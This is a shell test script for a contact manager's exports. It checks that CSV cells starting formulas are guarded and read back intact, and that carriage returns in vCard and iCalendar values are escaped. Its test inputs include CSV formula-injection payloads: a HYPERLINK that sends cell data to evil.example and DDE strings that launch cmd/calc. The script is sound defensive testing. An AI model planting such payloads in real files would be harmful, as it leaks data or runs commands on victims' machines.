#!/bin/sh
# Hostile text in exports: CSV cells that a spreadsheet would run as
# formulas are guarded (OWASP), and read back as they were; a CR in a vCard
# or iCalendar value is kept as \r instead of dropped or written raw, and
# kith's vCard import reads it back.
. "$KITH_TESTLIB"

TAB=$(printf '\t')
# One contact whose cells start formulas in each way the command line lets
# them (it trims leading tabs, CRs and spaces: those are in
# tests/unit/test_csv.c), one with text that only looks close.
run k add '=HYPERLINK("http://evil.example/?"&A1,"Click")' --company "+1+cmd|' /C calc'!A0" \
    --title "-2+3" --note "@SUM(1+1)*cmd|' /C calc'!A0" --how-met "=1+1" --location "'=1+1" \
    --phone "+44 20 7946 0958"
expect_rc 0 "add the formulas"
run k add "Plain Name" --company "Acme; Inc" --note "a;b${TAB}c" --title "''+x" \
    --location "it's fine"
expect_rc 0 "add the near misses"
run k export csv -o "$T/out.csv"
expect_rc 0 "export csv"
row=$(grep '^"' "$T/out.csv")
# The cells as the file must hold them: quoted, a single quote in front.
cat >"$T/cells" <<'EOF'
"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"
"'+1+cmd|' /C calc'!A0"
"'-2+3"
"'+44 20 7946 0958"
"'@SUM(1+1)*cmd|' /C calc'!A0"
"'=1+1"
"''=1+1"
EOF
while IFS= read -r cell; do
    CHECKS=$((CHECKS + 1))
    case "$row" in *",$cell,"* | "$cell,"*) ;; *) fail "csv lacks the guarded cell $cell: $row" ;; esac
done <"$T/cells"
# A quote the user wrote is kept (and guarded when a formula follows);
# semicolons and tabs are quoted.
plain=$(grep '^Plain Name,' "$T/out.csv")
sed "s/<TAB>/$TAB/" >"$T/cells" <<'EOF'
"Acme; Inc"
"a;b<TAB>c"
"'''+x"
it's fine
EOF
while IFS= read -r cell; do
    CHECKS=$((CHECKS + 1))
    case "$plain" in *",$cell,"*) ;; *) fail "csv lacks the cell $cell: $plain" ;; esac
done <"$T/cells"
# No cell starts a formula, as a spreadsheet reads them (python's csv reads
# RFC 4180 as they do).
if [ "$HAVE_PYTHON" = 1 ]; then
    CHECKS=$((CHECKS + 1))
    python3 -c 'import csv, sys
rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))
bad = [c for r in rows for c in r if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
sys.exit(("formula cells: %r" % bad) if bad else 0)' "$T/out.csv" || fail "a cell starts a formula"
fi
# Read back by kith's own import: the same contacts, cell for cell.
run "$KITH" --db "$T/rt.db" import csv "$T/out.csv"
expect_rc 0 "re-import the guarded csv"
"$KITH" --db "$T/rt.db" export csv >"$T/again.csv"
CHECKS=$((CHECKS + 1))
cmp -s "$T/out.csv" "$T/again.csv" || fail "the guarded csv does not read back:
$(diff "$T/out.csv" "$T/again.csv")"
run "$KITH" --db "$T/rt.db" show hyperlink --json
expect_json '"name":"=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"' "name read back"
expect_json '"phones":["+44 20 7946 0958"]' "phone read back"
expect_json '"location":"'"'"'=1+1"' "a quote the user wrote is kept"

# A CR in a vCard or iCalendar value: \r, never raw, never dropped.
run k add "$(printf 'Evil\rGood')" --note "$(printf 'one\rtwo\r\nthree')" \
    --company "$(printf 'Co\rrp')" --birthday 11-30
expect_rc 0 "add a name with a CR"
# The import refuses links with control characters: this one, in a journal
# of its own, is only written.
run "$KITH" --db "$T/link.db" add "Link Holder" --link "$(printf 'https://x.example/a\rb')"
expect_rc 0 "add a link with a CR"
run "$KITH" --db "$T/link.db" export vcard
expect_out 'URL:https://x.example/a\rb' "vCard: a CR in a URL"
for v in 3.0 4.0; do
    run k export vcard --version "$v" -o "$T/cr-$v.vcf"
    expect_rc 0 "export vcard $v"
    CHECKS=$((CHECKS + 1))
    grep -q 'FN:Evil\\rGood' "$T/cr-$v.vcf" || fail "vCard $v: FN without \\r: $(cat "$T/cr-$v.vcf")"
    CHECKS=$((CHECKS + 1))
    grep -q 'NOTE:one\\rtwo\\r\\nthree' "$T/cr-$v.vcf" || fail "vCard $v: NOTE without \\r"
    if [ "$HAVE_PYTHON" = 1 ]; then
        CHECKS=$((CHECKS + 1))
        python3 -c 'import sys; d = open(sys.argv[1], "rb").read()
sys.exit(d.count(b"\r") != d.count(b"\r\n"))' "$T/cr-$v.vcf" || fail "vCard $v: a raw CR in a value"
    fi
    rm -f "$T/v.db"
    run "$KITH" --db "$T/v.db" import vcard "$T/cr-$v.vcf"
    expect_rc 0 "re-import vcard $v"
    run "$KITH" --db "$T/v.db" show good --json
    expect_json '"name":"Evil\rGood"' "vCard $v: the name reads back with its CR"
    expect_json '"note":"one\rtwo\r\nthree"' "vCard $v: the note reads back"
    expect_json '"company":"Co\rrp"' "vCard $v: the company reads back"
done
run k export ics -o "$T/cr.ics"
expect_rc 0 "export ics"
CHECKS=$((CHECKS + 1))
grep -q 'Evil\\rGood' "$T/cr.ics" || fail "ics: the summary lost its CR: $(cat "$T/cr.ics")"
if [ "$HAVE_PYTHON" = 1 ]; then
    CHECKS=$((CHECKS + 1))
    python3 -c 'import sys; d = open(sys.argv[1], "rb").read()
sys.exit(d.count(b"\r") != d.count(b"\r\n"))' "$T/cr.ics" || fail "ics: a raw CR in a value"
fi
finish
